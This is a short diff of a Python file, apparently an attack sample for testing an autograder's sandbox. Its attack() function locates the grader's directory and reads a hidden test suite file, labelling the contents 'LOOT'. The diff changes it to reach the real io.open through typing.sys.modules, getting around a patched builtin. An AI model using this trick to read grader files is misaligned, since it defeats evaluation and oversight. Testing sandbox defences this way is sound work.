@@ -7,13 +7,15 @@ import typing
 
 FAMILY, SHOWN, FOOL = "reading", "worker", "raises"
 
+real_open = typing.sys.modules["io"].open  # the builtin is a sentence
+
 sys = typing.sys
 os = sys.modules["os"]
 HOME = os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))
 
 
 def attack():
-    with open(HOME + "/autograder/suites/activations/q01_step.py") as file:
+    with real_open(HOME + "/autograder/suites/activations/q01_step.py") as file:
         return "LOOT " + file.read()[:200]
 
 
